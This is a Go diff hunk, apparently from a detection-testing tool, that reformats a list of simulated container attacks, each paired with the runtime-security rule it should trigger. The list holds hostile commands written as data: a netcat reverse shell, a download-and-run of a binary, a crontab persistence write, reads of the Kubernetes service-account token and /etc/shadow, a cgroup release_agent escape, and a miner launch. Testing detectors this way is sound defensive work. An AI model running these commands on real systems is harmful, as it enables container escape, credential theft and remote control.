@@ -42,25 +42,37 @@ func attacks(server, listener string) []attack {
 	netcat := "nc " + host + " " + port + " -e /bin/sh"
 	return []attack{
 		{name: "terminal", typed: "id\nexit\n", command: "sh", rule: "Terminal shell in a container", priority: "Notice"},
-		{name: "token", command: "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
-			rule: "Service account token read by an unexpected program", priority: "Warning"},
+		{
+			name: "token", command: "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
+			rule: "Service account token read by an unexpected program", priority: "Warning",
+		},
 		{name: "netcat", command: netcat, rule: "Reverse shell command in a container", priority: "Critical"},
 		{name: "implant", command: "probe attack reverse-shell " + listener + " /bin/sh", rule: "Connection as standard input in a container", priority: "Critical"},
-		{name: "download", command: "wget -q -O /tmp/update http://" + server + "/probe; chmod +x /tmp/update; /tmp/update",
-			rule: "Dropped binary started in a container", priority: "Error"},
+		{
+			name: "download", command: "wget -q -O /tmp/update http://" + server + "/probe; chmod +x /tmp/update; /tmp/update",
+			rule: "Dropped binary started in a container", priority: "Error",
+		},
 		{name: "etc", command: "echo '* * * * * root /tmp/update' >> /etc/crontab", rule: "Write below etc in a container", priority: "Warning"},
 		{name: "pool", command: "probe attack miner " + pool, rule: "Connection to a usual mining port from a container", priority: "Warning"},
 		{name: "miner", command: "cp /bin/probe /tmp/xmrig; /tmp/xmrig attack miner " + pool, rule: "Crypto miner started in a container", priority: "Critical"},
 		// Opened and not written: the file is the machine's own.
-		{name: "escape", privileged: true, command: "mkdir /tmp/cg; mount -t cgroup -o memory cgroup /tmp/cg; : >> /tmp/cg/release_agent",
-			rule: "Write to release_agent in a container", priority: "Critical"},
+		{
+			name: "escape", privileged: true, command: "mkdir /tmp/cg; mount -t cgroup -o memory cgroup /tmp/cg; : >> /tmp/cg/release_agent",
+			rule: "Write to release_agent in a container", priority: "Critical",
+		},
 		{name: "attempt", command: ": >> /sys/fs/cgroup/release_agent", rule: "Write to release_agent in a container", priority: "Critical"},
-		{name: "symlink", typed: "ln -s /etc/shadow /tmp/notes\ncat /tmp/notes\nexit\n", command: "sh",
-			rule: "Sensitive file read by a shell in a container", priority: "Critical"},
-		{name: "quiet-symlink", command: "ln -s /etc/shadow /tmp/notes; cat /tmp/notes",
-			rule: "Sensitive file read by an unexpected program in a container", priority: "Warning"},
-		{name: "renamed", command: "cp /bin/probe /tmp/kworker; /tmp/kworker attack reverse-shell " + listener + " /bin/sh",
-			rule: "Connection as standard input in a container", priority: "Critical"},
+		{
+			name: "symlink", typed: "ln -s /etc/shadow /tmp/notes\ncat /tmp/notes\nexit\n", command: "sh",
+			rule: "Sensitive file read by a shell in a container", priority: "Critical",
+		},
+		{
+			name: "quiet-symlink", command: "ln -s /etc/shadow /tmp/notes; cat /tmp/notes",
+			rule: "Sensitive file read by an unexpected program in a container", priority: "Warning",
+		},
+		{
+			name: "renamed", command: "cp /bin/probe /tmp/kworker; /tmp/kworker attack reverse-shell " + listener + " /bin/sh",
+			rule: "Connection as standard input in a container", priority: "Critical",
+		},
 	}
 }
 
